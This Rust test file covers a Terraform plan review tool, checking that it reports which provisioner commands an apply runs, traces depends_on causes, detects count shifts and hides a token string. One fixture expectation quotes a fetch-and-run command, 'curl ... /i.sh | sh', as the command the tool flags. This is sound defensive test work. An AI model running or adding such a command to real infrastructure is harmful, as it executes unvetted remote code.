//! Tests the reasons of entries in plans from reports by users, rebuilt: what an apply runs, causes, shifts.

use bumpalo::Bump;
use serde_json::{Value, json};

use crate::diff::parallel::Storage;
use crate::model::plan::Plan;
use crate::review::build::{ReadOptions, ReviewInputs};
use crate::review::findings::Rules;
use crate::review::plan::PlanReview;
use crate::schema::Schemas;

const PROVISIONERS: &str = include_str!("../../../fixtures/public/provisioners_a/plan.json");
const DEPENDS_ON: &str = include_str!("../../../fixtures/public/role_assign_deferred/plan.json");
const SHIFT: &str = include_str!("../../../fixtures/public/count_shift/plan.json");

/// Returns the reasons of the entries as `ADDRESS: TEXT`, and the causes as `ADDRESS <- CAUSE`.
fn reasons(text: &str) -> Vec<String> {
    let (arena, mut storage) = (Bump::new(), Storage::default());
    let plan: Plan<'_> = crate::json::from_str(text).unwrap();
    let (schemas, rules) = (Schemas::new(), Rules::built_in());
    let options = ReadOptions {
        rules: Some(&rules),
        ..ReadOptions::default()
    };
    let inputs = ReviewInputs {
        options,
        ..ReviewInputs::new("plan.json", text, &plan, &schemas)
    };
    let review = PlanReview::new(inputs, &arena, &mut storage);
    let mut lines = Vec::new();
    for entry in &review.unwrap().changes.resources {
        let reasons = entry.reasons.iter();
        lines.extend(reasons.map(|reason| format!("{}: {}", entry.address, reason.text)));
        let causes = entry.causes.iter();
        lines.extend(causes.map(|cause| format!("{} <- {}", entry.address, cause.address)));
    }
    lines
}

#[track_caller]
fn assert_found(lines: &[String], expected: &[&str]) {
    for part in expected {
        assert!(
            lines.iter().any(|line| line.contains(part)),
            "{part}: {lines:#?}"
        );
    }
}

#[track_caller]
fn assert_not_found(lines: &[String], parts: &[&str]) {
    for part in parts {
        assert!(
            !lines.iter().any(|line| line.contains(part)),
            "{part}: {lines:#?}"
        );
    }
}

#[test]
fn what_an_apply_runs_is_said() {
    let told_reasons = reasons(PROVISIONERS);
    assert_found(
        &told_reasons,
        &["null_resource.setup: runs local-exec: curl -s http://203.0.113.7/i.sh | sh"],
    );
    let with = |action: &str, kind: &str, mode: &str, expressions: Value| {
        let (before, after) = match action {
            "delete" => (json!({"id": "1"}), Value::Null),
            "update" => (json!({"id": "1"}), json!({"id": "1", "x": "2"})),
            _ => (Value::Null, json!({"x": "1"})),
        };
        let change = json!({"address": "a.b", "mode": mode, "type": kind, "name": "b",
            "change": {"actions": [action], "before": before, "after": after, "after_unknown": {}}});
        let block = json!({"mode": mode, "type": kind, "name": "b", "expressions": expressions,
            "provisioners": if mode == "data" { Value::Null } else { json!([{"type": "local-exec", "expressions": expressions}]) }});
        let plan = json!({"format_version": "1.2", "resource_changes": [change],
            "configuration": {"root_module": {"resources": [block]}}});
        reasons(&plan.to_string())
    };
    let command = json!({"command": {"references": ["var.script"]}});
    assert_found(
        &with("create", "null_resource", "managed", command.clone()),
        &["runs local-exec, made from var.script"],
    );
    assert_found(
        &with("delete", "null_resource", "managed", command.clone()),
        &["may run local-exec"],
    );
    assert_not_found(
        &with("update", "null_resource", "managed", command),
        &["run"],
    );
    let program = json!({"program": {"constant_value": ["python3", "x.py"]}});
    assert_found(
        &with("read", "external", "data", program),
        &["runs a program: python3 x.py"],
    );
    let token = json!({"command": {"constant_value": "curl -H token:ghp_abcdefghijklmnopqrstuvwxyz0123456789 x"}});
    assert_not_found(
        &with("create", "null_resource", "managed", token),
        &["ghp_abcdefghijklmnopqrstuvwxyz0123456789"],
    );
}

#[test]
fn causes_through_depends_on_are_found() {
    assert_found(
        &reasons(DEPENDS_ON),
        &[
            "module.apps[0].data.azurerm_subscription.current <- module.build.null_resource.build",
            "module.apps[0].azurerm_role_assignment.cost <- module.apps[0].data.azurerm_subscription.current",
        ],
    );
}

#[test]
fn a_shift_of_count_is_told_once() {
    let told_reasons = reasons(SHIFT);
    assert_found(
        &told_reasons,
        &[
            "z[1]: gets what aws_route53_zone.z[2] has: looks like a shift of `count`",
            "z[6]: gets what aws_route53_zone.z[7] has: looks like a shift of `count`",
        ],
    );
    assert_not_found(&told_reasons, &["z[7]: gets"]);
    // The values differ from those of the neighbors.
    let others = SHIFT.replacen("carol.example.com", "carl.example.com", 1);
    assert_not_found(&reasons(&others), &["shift of `count`"]);
}
